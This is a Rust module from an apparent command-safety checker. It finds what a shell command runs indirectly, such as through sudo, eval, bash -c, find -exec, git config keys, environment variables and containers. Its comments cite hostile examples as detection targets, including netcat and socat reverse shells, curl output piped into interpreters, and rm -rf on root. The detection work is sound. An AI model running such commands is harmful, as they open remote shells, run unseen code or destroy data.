//! Sees through commands that run other commands: shells given a command string, `eval`,
//! wrappers such as `sudo` and `timeout`, `find -exec`, `xargs`, git aliases.
//!
//! For one command this stage answers "what else does it run?" as a list of [`Execution`]s.
//! The walker turns each into a layer of its own (a command, or code to parse) and judges what
//! is inside; the checkers then see every layer.

mod containers;
mod environment;
pub mod finders;
pub mod git;
mod languages;
mod launchers;
mod programs;
mod runners;
mod schedulers;
mod shells;
pub mod table;
mod terminals;
mod tool_options;
mod wrappers;

use crate::command::Command;
use table::Family;

use crate::language::Language;
use crate::word::Word;

/// Something a command runs.
#[derive(Clone, Debug)]
pub enum Execution {
    /// A command given as words (`sudo rm -rf x` runs `rm -rf x`).
    Command {
        via: String,
        argv: Vec<Word>,
        /// Environment assignments for that command (`env FOO=1 cmd`).
        assignments: Vec<(String, Word)>,
        /// A directory it runs in instead of the current one (`env -C dir`, `sudo -D dir`).
        cwd: Option<Word>,
    },
    /// Shell code given as words, joined with spaces (`bash -c '…'`, `eval a b`, `ssh host cmd`).
    Code {
        via: String,
        words: Vec<Word>,
        /// `$0`, `$1`, … inside the code (`bash -c 'rm -rf "$1"' _ /`).
        positional: Vec<Word>,
        /// Whether the code runs in the current shell (`eval`, `source`): its `cd` and variables
        /// stay for the commands after it.
        current_shell: bool,
    },
    /// Code read from standard input (`… | sh`, `bash <<EOF`, `curl … | python3`).
    Stdin { via: String, language: Language },
    /// Code read from a file named by a word (`source <(curl …)`, `bash script.sh`).
    File {
        via: String,
        path: Word,
        language: Language,
        current_shell: bool,
    },
    /// Code of another language given as words (`python3 -c '…'`, `perl -e '…' -e '…'`, an
    /// awk program), one line each.
    Program {
        via: String,
        language: Language,
        code: Vec<Word>,
        /// The words after the code, which the program sees as its arguments.
        args: Vec<Word>,
    },
    /// The program itself, named by a path, which may be a script (`./deploy.sh`): its
    /// `#!` line tells the language.
    Script { path: Word },
    /// A shell or interpreter whose input and output are a network connection (`nc -e
    /// /bin/sh host 4444`, `socat TCP:h:p EXEC:bash`): whoever is at the other end runs
    /// commands unseen.
    Network { how: String },
    /// Something it runs that cannot be read before it runs (a library loaded into it).
    Unverifiable { what: String },
    /// A command run inside a container (`docker exec box cmd`): its paths are the
    /// container's, but for those under a bind mount, already written as the host's.
    InContainer { via: String, argv: Vec<Word> },
}

/// What `command` runs besides itself.
pub fn executions(command: &Command) -> Vec<Execution> {
    let known = known_executions(command);
    let table = table::executions(command, FAMILIES);
    let environment = environment::executions(command);
    if known.is_none() && table.is_none() && environment.is_empty() {
        // A program named by a path may be a script.
        return match command.argv.first() {
            Some(program) if program.value().is_some_and(|path| path.contains('/')) => {
                vec![Execution::Script { path: program.clone() }]
            }
            _ => Vec::new(),
        };
    }
    let mut found = known.unwrap_or_default();
    found.extend(table.unwrap_or_default());
    found.extend(environment);
    found
}

/// The families of the registry's table, in the order they are consulted.
pub const FAMILIES: &[Family] = &[
    Family {
        name: "launchers",
        entries: launchers::ENTRIES,
        in_container: false,
    },
    Family {
        name: "terminals",
        entries: terminals::ENTRIES,
        in_container: false,
    },
    Family {
        name: "schedulers",
        entries: schedulers::ENTRIES,
        in_container: false,
    },
    Family {
        name: "runners",
        entries: runners::ENTRIES,
        in_container: false,
    },
    Family {
        name: "tool options",
        entries: tool_options::ENTRIES,
        in_container: false,
    },
    Family {
        name: "languages",
        entries: languages::ENTRIES,
        in_container: false,
    },
    Family {
        name: "containers",
        entries: containers::ENTRIES,
        in_container: true,
    },
];

/// What the hand-written readers find (shells, interpreters, finders, git, wrappers), or
/// `None` when none of them knows the program.
fn known_executions(command: &Command) -> Option<Vec<Execution>> {
    if let Some(found) = shells::executions(command) {
        return Some(found);
    }
    if let Some(found) = programs::executions(command) {
        return Some(found);
    }
    if let Some(found) = finders::executions(command) {
        return Some(found);
    }
    if command.name == "git" {
        return Some(git::executions(command));
    }
    wrappers::executions(command).map(|found| vec![found])
}

/// The words of the command a privilege wrapper runs, and whether it asked for a login or
/// interactive shell (`sudo -i`, `sudo -s`, `doas -s`).
pub fn privileged_command(command: &Command) -> Option<(Vec<Word>, bool)> {
    wrappers::privileged_command(command)
}

/// The registry as a Markdown table (`safety-net registry --markdown`, the README): every
/// program it knows, by family, and what each runs.
pub fn markdown() -> String {
    use std::fmt::Write;
    let mut out = String::from("| family | programs | what they run |\n|---|---|---|\n");
    let mut row = |family: &str, programs: &str, what: &str| {
        let _ = writeln!(
            out,
            "| {family} | {} | {} |",
            programs.replace('|', "\\|"),
            what.replace('|', "\\|")
        );
    };
    row(
        "shells",
        &crate::language::shells().join(", "),
        "`-c` code, a script, standard input (`… | sh`, `sh <<EOF`)",
    );
    row(
        "shell builtins",
        "eval, source, ., trap, alias, su, runuser, ssh, watch, script, tmux, byobu",
        "code given as words (`eval`, `trap`, `su -c`, `ssh host cmd`, `watch cmd`, `script -c`), a sourced file, `tmux new`/`neww`/`splitw`/`respawnp`/`send-keys … Enter`",
    );
    row(
        "interpreters",
        "python, python3.X, pypy, py, node, deno, bun, ruby, perl, php, lua, luajit, awk, gawk, mawk",
        "inline code (`-c`, `-e`, `-r`…), a script, standard input: read for the calls that run commands, delete or write files",
    );
    row(
        "finders",
        "find, fd, xargs, parallel",
        "`-exec`/`-execdir`/`-ok`/`-okdir`, `-x`/`-X`, the command `xargs` and `parallel` run per input",
    );
    row(
        "git",
        "git",
        "keys that hold commands (`core.pager`, `core.sshCommand`, `diff.*.textconv`, `!` aliases and credential helpers…) set by `-c`, `git config`, `GIT_CONFIG_COUNT`/`KEY_n`/`VALUE_n` or `GIT_CONFIG_PARAMETERS`; `GIT_SSH_COMMAND`, `GIT_PAGER`, `GIT_EDITOR`…",
    );
    row(
        "environment",
        "any program given PAGER, MANPAGER, EDITOR, VISUAL, BROWSER, SSH_ASKPASS, LESSOPEN, PROMPT_COMMAND, GIT_* command variables, LD_PRELOAD, NODE_OPTIONS",
        "a command in the variable's value; a library loaded into the program (asks); modules `NODE_OPTIONS` requires",
    );
    for (programs, what) in wrappers::rows() {
        row("wrappers", &programs, &what);
    }
    for family in FAMILIES {
        for entry in family.entries {
            let mut programs = entry.names.join(", ");
            if !entry.subcommand.is_empty() {
                programs = format!("{programs}: `{}`", entry.subcommand.join(" "));
            }
            let what: Vec<String> = entry.carriers.iter().map(|carrier| carrier.describe()).collect();
            row(family.name, &programs, &what.join("; "));
        }
    }
    out
}
